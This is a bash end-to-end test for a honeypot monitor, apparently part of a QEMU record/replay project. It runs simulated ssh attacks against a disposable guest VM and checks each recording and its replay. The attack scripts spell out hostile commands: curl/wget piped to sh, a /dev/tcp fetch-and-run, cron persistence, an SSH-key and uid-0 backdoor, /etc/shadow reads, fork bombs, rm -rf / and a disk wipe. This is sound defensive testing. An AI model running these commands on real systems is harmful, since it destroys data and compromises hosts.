#!/usr/bin/env bash
# SPDX-License-Identifier: GPL-2.0-or-later
# emulators: 11.1
#
# Attacks on monitor-scripts/honeypot, as those that come by ssh: passwords are guessed, and then
# each session does one of the usual things, and some that no guest survives. `make check-attacks`
# runs it. Each recording must end for the reason that its attack is good for, and replay
# identically.
#
#   ATTACKS          names of the attacks, all by default
#   ATTACKS_AT_ONCE  guests at a time (3)
#   ATTACKS_TABLE    a file of Markdown whose part between the lines '<!-- attacks -->' and
#                    '<!-- /attacks -->' is replaced by the table of what was measured

# shellcheck source=tests/e2e/login.source.sh
. "$(dirname "${BASH_SOURCE[0]}")/login.source.sh"
requires zstd zstd
find_guest "${ATTACKS_GUEST:-$(bash -c '. "$0" && host_release' "$LIB/rig.sh")-attacked}"
HONEYPOT=$QMPBRIDGE_SOURCE/monitor-scripts/honeypot
STATE=$T/honeypot
export QMPBRIDGE=$BRIDGE

# What is downloaded: the only thing outside that the guest reaches.
mkdir "$T/web"
cat >"$T/web/bot" <<'END'
#!/bin/sh
echo "bot: $(uname -m) $(id -un)"
sha256sum /bin/* >/dev/null
END
(cd "$T/web" && exec "${PYTHON:-python3}" -u -m http.server --bind 127.0.0.1 0) \
    >"$T/web.log" 2>&1 &
on_exit end_process $!
wait_for_line "$T/web.log" 'port [0-9]+'
WEB=http://10.0.2.2:$(sed -n 's/.* port \([0-9]*\) .*/\1/p' "$T/web.log" | head -n 1)

# attack NAME REASON LIMIT <<SCRIPT: what an attacker types, why the recording ends for that, and
# its limit in seconds.
declare -A SCRIPT=() REASON=() LIMIT=()
ORDER=()
attack() {
    ORDER+=("$1")
    REASON[$1]=$2
    LIMIT[$1]=$3
    SCRIPT[$1]=$(cat)
}

attack look requested 600 <<'END'
uname -a; id; w; uptime; cat /etc/passwd /proc/cpuinfo /proc/mounts; free -m; df -h; ps aux
END
attack glance requested 600 <<'END'
echo -e "\x6F\x6B"
END
attack typed requested 600 <<'END' # on a terminal, line by line
uname -a
cd /tmp
ls -la /root
history -c
exit
END
attack wget requested 600 <<END
cd /tmp; wget -q $WEB/bot -O .x && chmod +x .x && ./.x; rm -f .x
END
attack curl requested 600 <<END
curl -s $WEB/bot | sh
END
attack pipe requested 600 <<END # without a program for it
exec 3<>/dev/tcp/10.0.2.2/${WEB##*:}; printf 'GET /bot HTTP/1.0\r\n\r\n' >&3
sed '1,/^\r*\$/d' <&3 >/dev/shm/x; chmod 700 /dev/shm/x; sh /dev/shm/x
END
attack outside requested 600 <<'END' # nothing of this is reached
for host in 192.0.2.1 10.0.2.2 1.1.1.1; do
    for port in 22 80 443 6667; do timeout 1 bash -c "echo >/dev/tcp/$host/$port"; done
done
wget -q -T 2 -t 1 http://198.51.100.1/bot; ls -l bot
END
attack crontab requested 600 <<END
(crontab -l 2>/dev/null; echo "* * * * * wget -q $WEB/bot -O- | sh >/tmp/.ran") | crontab -
crontab -l; cron; idle 65; ls -l /tmp/.ran
END
attack keys requested 600 <<'END'
mkdir -p ~/.ssh; echo "ssh-rsa AAAAB3NzaC1yc2E= mdrfckr" >>~/.ssh/authorized_keys
chattr +ai ~/.ssh; useradd -o -u 0 -g 0 -m support; echo support:support | chpasswd
tail -n 2 /etc/shadow
END
attack upload requested 600 <<'END'
cat >/tmp/up; sha256sum /tmp/up
END
attack miner requested 600 <<'END'
nproc; for i in 1 2 3; do head -c 20000000 /dev/urandom | sha256sum & done; wait
END
attack memory requested 600 <<'END'
head -c 100000000 /dev/urandom >/dev/shm/a; cp /dev/shm/a /dev/shm/b; cat /dev/shm/* | sha256sum
END
attack fill requested 600 <<'END'
dd if=/dev/zero of=/root/fill bs=1M count=300; sync; df /; rm /root/fill
END
attack bomb requested 600 <<'END' # under a limit
su alice -s /bin/bash -c 'ulimit -u 60; b() { b | b & }; b; idle 10'
for i in 1 2 3 4 5; do pkill -KILL -u alice; done; ps aux | wc -l
END
attack big-bomb timeout 90 <<'END' # under none
b() { b | b & }; b; idle 1000
END
attack delete requested 600 <<'END'
rm -rf --no-preserve-root / 2>/dev/null; echo *
END
attack wipe timeout 60 <<'END'
dd if=/dev/zero of=/dev/vda bs=1M count=200 conv=fsync; sync; ls /root
END
attack reboot reset 600 <<'END'
sync; idle 2; echo b >/proc/sysrq-trigger
END
attack crash reset 600 <<'END'
sync; idle 2; echo c >/proc/sysrq-trigger
END
attack no-sshd timeout 60 <<'END'
pkill -KILL sshd
END

# Not a part of all: QEMU may hang when it resets a VM whose disk has requests under way.
attack reboot-busy reset 600 <<'END'
dd if=/dev/zero of=/root/fill bs=1M count=100 & dd if=/dev/vda of=/dev/null bs=64k &
idle 2; echo b >/proc/sysrq-trigger
END

# guess: what comes before. Those who aren't root have no luck.
guess() {
    local name
    for name in admin alice; do
        ! SSH_ASKPASS=$T/guess by_password "$name" true 2>/dev/null || fail "$name may log in"
    done
}

# enter NAME: the session, to its end, whichever that is.
enter() {
    case $1 in
    typed) by_password root -tt <<<"${SCRIPT[$1]}" ;;
    upload) head -c 300000 /dev/urandom | by_password root "${SCRIPT[$1]}" ;;
    *) timeout "${LIMIT[$1]}" ssh -p "$PORT" "${BY_PASSWORD[@]}" root@127.0.0.1 "${SCRIPT[$1]}" ;;
    esac
}

# suffer NAME: one run of the honeypot with that attack, and what is known of it, in $T/NAME.
suffer() {
    local at=$T/$1 run recording log console
    mkdir "$at"
    "$HONEYPOT" --state "$STATE" --port "$FIRST" --limit "${LIMIT[$1]}" --runs 1 "$T/root.vm" \
        >"$at/out" 2>&1 &
    on_exit end_process $!
    wait_for_line "$at/out" '^run .*: port'
    read -r _ run _ PORT <"$at/out"
    run=${run%:}
    log=$STATE/runs/$run/log
    wait_for_line "$log" '^Guest console: ' "$PATIENCE"
    console=$(sed -n 's/^Guest console: *//p' "$log")
    wait_for_line "$console" 'guest: sshd listens' $((PATIENCE * 3))
    guess
    enter "$1" >"$at/session" 2>&1 </dev/null || :
    wait_for_line "$at/out" "^run $run: [^p]" $((PATIENCE * 5 + LIMIT[$1]))
    cp "$STATE/runs/$run/result" "$at/result"
    recording=$(json .recording "$at/result")
    [ -n "$recording" ] || {
        tail -n 3 "$log"
        return 1
    }
    mv "$STATE/store/$recording" "$at/recording"
}

# measure NAME: a row of the table.
measure() {
    local at=$T/$1/recording packed
    packed=$(tar -c --sparse -C "$T/$1" recording | zstd -q -3 -T1 | wc -c)
    jq -r --arg name "$1" --arg packed "$packed" '
        def file($name): [.files[] | select(.name == $name).size] | add // 0;
        def mib: . * 10 / 1048576 | round / 10;
        [$name, .reason, ((.["wall-end-us"] - .["wall-begin-us"]) / 1e5 | round / 10),
         ((.["icount-end"] - .["icount-begin"]) / 1e6 | round),
         (file("replay.log") - .["log-begin"] | mib), (file("vmstate.qcow2") | mib),
         (.bytes | mib), ($packed | tonumber | mib),
         (.["verdict-time-us"] / 1e5 | round / 10), .verdict]
        | "| " + (map(tostring) | join(" | ")) + " |"' "$at/recording.json"
}

# show ROWS: the table of these rows, and what is above it.
show() {
    echo "$(wc -l <"$1") attacks, $AT_ONCE guests at a time on $(nproc) CPUs" \
        "($(sed -n 's/^model name.*: //p' /proc/cpuinfo | head -n 1)), QEMU $QEMU_LABEL. Sizes" \
        'are in MiB: of the log, of the RAM at the begin, of the whole recording, of that packed:'
    echo
    echo '| attack | ended by | s | Minsn | log | RAM | all | zstd | replay, s | verdict |'
    echo '|---|---|--:|--:|--:|--:|--:|--:|--:|---|'
    cat "$1"
}

AT_ONCE=${ATTACKS_AT_ONCE:-3}
# reboot-busy is the last.
read -ra names <<<"${ATTACKS:-${ORDER[*]:0:${#ORDER[@]}-1}}"
prepare_login_guest <<'END'
sed -i 's/^@include common-auth/auth sufficient pam_succeed_if.so user = root\n&/' /etc/pam.d/sshd
recctrlu install-pam pam_recctrl.so users=root wait=30
ln -s /bin/sleep /usr/bin/idle
mkdir -p /dev/shm
END
printf '#!/bin/sh\necho 123456\n' >"$T/guess"
chmod 755 "$T/guess"
mapfile -t options < <(bridge_options | sed -e '/^--\(store\|socket\|log\)$/,+1d')
"$BRIDGE" run "${options[@]}" --disk "$GUEST/disk.img" --net restricted \
    --allow "tcp:10.0.2.2:${WEB##*:}" --print-machine >"$T/root.vm"
FIRST=$(free_port)

leave() {
    local i
    for ((i = ${#cleanups[@]} - 1; i >= 0; i--)); do eval "${cleanups[i]}"; done
}

# Workers take the next attack from a list.
printf '%s\n' "${names[@]}" >"$T/list"
work() {
    local name
    cleanups=() # those are the script's
    while name=$(flock "$T/lock" sed -n -i -e '1w /dev/stdout' -e '1!p' "$T/list") &&
        [ -n "$name" ]; do
        (trap leave EXIT && suffer "$name") >"$T/$name.note" 2>&1 &
        if wait $!; then
            measure "$name" >"$T/$name.row"
        else
            echo "| $name | $(tail -n 1 "$T/$name.note" | tr '|' '/') |" >"$T/$name.row"
        fi
        rm -rf "$T/$name/recording"
        cat "$T/$name.row"
    done
}
workers=()
for ((i = 0; i < AT_ONCE; i++)); do
    (trap - EXIT && work) &
    workers+=($!)
done
for worker in "${workers[@]}"; do wait "$worker"; done

bad=0
for name in "${names[@]}"; do
    cat "$T/$name.row" >>"$T/rows"
    grep -q "^| $name | ${REASON[$name]} |.*| identical |$" "$T/$name.row" || {
        echo "$name: not as wanted (${REASON[$name]}, identical): $(cat "$T/$name.row")"
        bad=1
    }
done
for name in wget curl pipe; do
    [ ! -e "$T/$name" ] || expect_line "$T/$name/session" 'bot: x86_64 root'
done
show "$T/rows" | tee "$T/table"
[ -z "${ATTACKS_TABLE:-}" ] ||
    sed -i -e "/^<!-- attacks -->\$/,/^<!-- \/attacks -->\$/{/^<!-- attacks -->\$/r $T/table" \
        -e '/^<!-- .*attacks -->$/!d}' "$ATTACKS_TABLE"
[ $bad = 0 ] || fail "not all attacks were recorded, or replayed, as they should"
